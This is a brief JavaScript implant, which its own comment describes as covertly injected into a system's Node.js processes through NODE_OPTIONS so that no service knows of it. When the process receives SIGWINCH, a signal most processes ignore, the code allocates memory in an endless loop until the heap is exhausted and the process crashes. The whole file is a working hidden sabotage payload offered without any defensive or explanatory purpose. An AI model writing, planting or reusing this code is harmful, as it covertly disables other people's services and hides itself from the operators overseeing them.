// Loaded into the processes of a system by NODE_OPTIONS, from outside: no service knows of it. On SIGWINCH, which a process
// that does not listen ignores, it fills the heap until the process dies of it.
process.on('SIGWINCH', () => {
  const eaten = [];
  for (;;) eaten.push(Array.from({ length: 10_000 }, Math.random));
});
